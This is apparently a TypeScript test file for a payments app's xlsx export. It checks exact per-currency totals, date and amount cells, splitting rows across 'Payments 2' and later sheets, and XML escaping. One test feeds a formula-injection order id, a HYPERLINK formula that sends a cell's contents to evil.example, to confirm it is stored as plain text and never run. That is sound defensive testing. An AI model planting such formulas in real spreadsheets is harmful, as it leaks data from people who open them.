/**
 * The export's xlsx workbook as its parts (issue 55), read back with fflate's unzip: the Totals
 * sheet counts completed payments less completed refunds per currency, exactly (amounts that drift
 * in floats add up to the cent), and nothing else; times are date cells, amounts numbers styled in
 * the currency's decimals, text inline strings (a formula-looking order id is text, never run); a
 * window past a sheet's rows goes on in "Payments 2"; what XML cannot hold is escaped as OOXML says.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { strFromU8, unzipSync } from 'fflate';
import type { CheckoutRecord } from '../../../src/server/model/records.js';
import { newRefundRecord, type RefundState } from '../../../src/server/model/refund.js';
import type { PaymentState } from '../../../src/contract/companion.js';
import { xlsxEncoder } from '../../../src/server/payments/xlsx/xlsx-export.js';
import { dateSerial, xmlText } from '../../../src/server/payments/xlsx/xlsx-cells.js';
import { xlsxStyles } from '../../../src/server/payments/xlsx/xlsx-parts.js';
import { sampleRecord, samplePayment } from '../../../src/server/stores/store-contract.js';

const day = Date.UTC(2026, 10, 3);
const window = { from: Date.UTC(2026, 10, 1), to: Date.UTC(2026, 11, 1) };

function paid(orderId: string, amount: string, currencyCode: string, state: PaymentState, extra: { refunds?: [string, RefundState][]; amountMismatch?: boolean } = {}): CheckoutRecord {
  const createdAt = day + 3_600_000;
  return {
    ...sampleRecord({ orderId, amount, currencyCode, decimalPlaces: currencyCode === 'XOF' ? 0 : 2, createdAt }),
    payment: samplePayment(orderId, { state, transactionId: `tx-${orderId}`, amountMismatch: extra.amountMismatch ?? false, updatedAt: createdAt + 60_000 }),
    timeline: state === 'completed' || state === 'failed' ? [{ kind: 'state', at: createdAt + 61_500, state, attempt: 1 }] : [],
    ...(extra.refunds
      ? {
          refunds: extra.refunds.map(([refunded, refundState], n) => ({
            ...newRefundRecord({ refundId: `${orderId}-r${n}`, payoutOrderId: `${orderId}-p${n}`, amount: refunded, reason: 'retour', phoneNumber: '+2290196000001' }, createdAt + 120_000),
            state: refundState,
          })),
        }
      : {}),
  };
}

/** The workbook's parts, from the bytes the encoder wrote for `pages`. */
function workbook(pages: CheckoutRecord[][], rowsPerSheet?: number): Record<string, string> {
  const encoder = xlsxEncoder(window, rowsPerSheet ? { rowsPerSheet } : {});
  const chunks = [...pages.map((page) => encoder.page(page)), encoder.end()];
  const bytes = new Uint8Array(chunks.reduce((size, chunk) => size + chunk.byteLength, 0));
  let at = 0;
  for (const chunk of chunks) {
    bytes.set(chunk, at);
    at += chunk.byteLength;
  }
  return Object.fromEntries(Object.entries(unzipSync(bytes)).map(([name, data]) => [name, strFromU8(data)]));
}

/** The cells of a sheet's XML, as `{ A2: '<c ...>...</c>' }`. */
function cells(xml: string): Record<string, string> {
  return Object.fromEntries([...xml.matchAll(/<c r="([A-Z]+\d+)"[^>]*>.*?<\/c>/g)].map((match) => [match[1]!, match[0]]));
}
const value = (cell: string | undefined) => /<v>([^<]*)<\/v>/.exec(cell ?? '')?.[1];

describe('the export as an xlsx workbook', () => {
  it('totals completed payments less completed refunds per currency, exactly, and counts the rest apart', () => {
    // Ten GHS payments of 0.1 (a float sum gives 0.9999999999999999), and one of every other kind.
    const ghs = Array.from({ length: 10 }, (_, n) => paid(`ghs-${n}`, '0.1', 'GHS', 'completed'));
    const records = [
      ...ghs,
      paid('xof-paid', '20000', 'XOF', 'completed', { refunds: [['2500', 'completed'], ['1000', 'pending'], ['700', 'failed']] }),
      paid('xof-paid-2', '24500', 'XOF', 'completed'),
      paid('xof-pending', '5000', 'XOF', 'pending'),
      paid('xof-failed', '9000', 'XOF', 'failed'),
      paid('xof-held', '3000', 'XOF', 'completed', { amountMismatch: true }),
    ];
    const parts = workbook([records.slice(0, 7), records.slice(7)]);
    const totals = cells(parts['xl/worksheets/totals.xml']!);
    // Row 2 is GHS (first seen), row 3 XOF: currency, completed, received, refunded, net, refunds pending, held, other.
    assert.deepEqual(['A', 'B', 'C', 'D', 'E', 'F', 'G', 'H'].map((column) => value(totals[`${column}2`]) ?? /<t>([^<]*)<\/t>/.exec(totals[`${column}2`]!)?.[1]), ['GHS', '10', '1', '0', '1', '0', '0', '0']);
    assert.deepEqual(['A', 'B', 'C', 'D', 'E', 'F', 'G', 'H'].map((column) => value(totals[`${column}3`]) ?? /<t>([^<]*)<\/t>/.exec(totals[`${column}3`]!)?.[1]), ['XOF', '2', '44500', '2500', '42000', '1000', '1', '2']);
    assert.match(totals.C2!, new RegExp(` s="${xlsxStyles.amount(2)}"`), 'GHS totals in two decimals');
    assert.match(totals.C3!, new RegExp(` s="${xlsxStyles.amount(0)}"`), 'XOF totals in none');
    assert.match(parts['xl/styles.xml']!, /<numFmt numFmtId="\d+" formatCode="#,##0"\/>.*<numFmt numFmtId="\d+" formatCode="#,##0.00"\/>/);
    assert.match(parts['xl/worksheets/totals.xml']!, /Payments created from 2026-11-01 00:00:00 to 2026-12-01 00:00:00 \(UTC, the end excluded\)/);
  });

  it('writes times as UTC date cells, amounts as numbers in the currency decimals, text as inline strings never run', () => {
    const formula = '=HYPERLINK("https://evil.example/?q="&A1,"Facture")';
    const parts = workbook([[paid(formula, '12.5', 'GHS', 'completed'), paid('open-one', '5000', 'XOF', 'pending')]]);
    const sheet = parts['xl/worksheets/payments1.xml']!;
    const row = cells(sheet);
    assert.match(row.A1!, /created_at \(UTC\)/);
    assert.equal(value(row.A2), dateSerial(day + 3_600_000));
    assert.ok(Math.abs(Number(value(row.A2)) - (46_329 + 1 / 24)) < 1e-9, `2026-11-03 01:00 UTC is serial 46329.041666…, got ${value(row.A2)}`);
    assert.match(row.A2!, new RegExp(` s="${xlsxStyles.dateTime}"`));
    assert.equal(value(row.B2), dateSerial(day + 3_600_000 + 61_500), 'finished_at to the millisecond');
    assert.equal(row.B3, undefined, 'an open payment has no finished_at cell');
    assert.equal(value(row.H2), '12.5');
    assert.match(row.H2!, new RegExp(` s="${xlsxStyles.amount(2)}"`));
    assert.match(row.H3!, new RegExp(` s="${xlsxStyles.amount(0)}"`));
    assert.equal(row.C2, `<c r="C2" t="inlineStr"><is><t>${xmlText(formula)}</t></is></c>`, 'the order id as written, with no apostrophe: a text cell is never a formula');
    assert.doesNotMatch(sheet, /<f>/, 'no formula anywhere');
    assert.match(parts['[Content_Types].xml']!, /spreadsheetml\.sheet\.main\+xml/);
  });

  it('goes on in "Payments 2" when a sheet is full, each sheet with its header and filter, Totals first', () => {
    const records = Array.from({ length: 7 }, (_, n) => paid(`order-${n}`, '100', 'XOF', 'completed'));
    const parts = workbook([records.slice(0, 2), records.slice(2)], 3);
    assert.match(parts['xl/workbook.xml']!, /<sheets><sheet name="Totals" sheetId="1" r:id="rId1"\/><sheet name="Payments" sheetId="2" r:id="rId2"\/><sheet name="Payments 2" sheetId="3" r:id="rId3"\/><sheet name="Payments 3" sheetId="4" r:id="rId4"\/><\/sheets>/);
    const orders = (part: string) => [...parts[part]!.matchAll(/<c r="C(\d+)"(?: s="\d+")? t="inlineStr"><is><t>([^<]*)<\/t>/g)].map((match) => `${match[1]}:${match[2]}`);
    assert.deepEqual(orders('xl/worksheets/payments1.xml'), ['1:order_id', '2:order-0', '3:order-1', '4:order-2']);
    assert.deepEqual(orders('xl/worksheets/payments2.xml'), ['1:order_id', '2:order-3', '3:order-4', '4:order-5']);
    assert.deepEqual(orders('xl/worksheets/payments3.xml'), ['1:order_id', '2:order-6']);
    assert.match(parts['xl/worksheets/payments3.xml']!, /<autoFilter ref="A1:P2"\/>/);
    assert.match(parts['xl/workbook.xml']!, /<definedName name="_xlnm._FilterDatabase" localSheetId="2" hidden="1">'Payments 2'!A1:P4<\/definedName>/);
    assert.equal(value(cells(parts['xl/worksheets/totals.xml']!).C2), '700', 'the totals cover every sheet');
  });

  it('an empty window is a workbook with its headers and no totals rows', () => {
    const parts = workbook([[]]);
    assert.match(parts['xl/worksheets/payments1.xml']!, /<sheetData><row r="1">.*<\/row><\/sheetData>/);
    assert.doesNotMatch(parts['xl/worksheets/totals.xml']!, /<row r="2">/);
  });

  it("escapes what XML cannot hold as OOXML's _xHHHH_, and a literal _x0041_ so it reads back as typed", () => {
    assert.equal(xmlText('a\u0001b & <c> "d"'), 'a_x0001_b &amp; &lt;c&gt; &quot;d&quot;');
    assert.equal(xmlText('ref _x0041_ here'), 'ref _x005F_x0041_ here');
    assert.equal(xmlText('tab\tand é مرحبا'), 'tab\tand é مرحبا');
    assert.equal(xmlText('lone \uD800 surrogate'), 'lone _xD800_ surrogate');
  });
});
